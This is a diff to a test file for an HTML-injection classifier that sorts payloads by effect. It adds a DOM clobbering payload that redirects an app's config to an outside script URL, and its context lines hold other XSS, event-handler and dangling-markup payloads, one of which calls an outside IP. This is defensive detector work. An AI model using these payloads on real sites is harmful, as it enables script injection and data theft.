@@ -69,6 +69,7 @@ describe('what injected markup does', () => {
     ['<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=go()>', MarkupEffect.EvasiveSyntax],
     ['<img name=getElementById>', MarkupEffect.DomClobbering],
     ['<form id=x><input name=attributes></form>', MarkupEffect.DomClobbering],
+    ['<a id=APP_CONFIG></a><a id=APP_CONFIG name=cdnUrl href="https://x.example/x.js"></a>', MarkupEffect.DomClobbering],
     ["<img src='//203.0.113.7/log?", MarkupEffect.DanglingMarkup],
     ['<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="#h"/>', MarkupEffect.EventHandler],
     ["<input ng-focus=$event.view.alert('x') autofocus>", MarkupEffect.EventHandler],
@@ -107,6 +108,7 @@ describe('what injected markup does', () => {
       '<button ng-click="save()">',
       '<a ng-click="(vm.showAlert)(1)">',
       '<a :href="link" @click="toggle()">',
+      '<p id="intro">a</p><p id="body">b</p><a id="top" name="top"></a>',
     ]) {
       expect(markupEffects(text.toLowerCase()) & (intent | SCRIPT_EFFECTS)).toBe(0);
     }
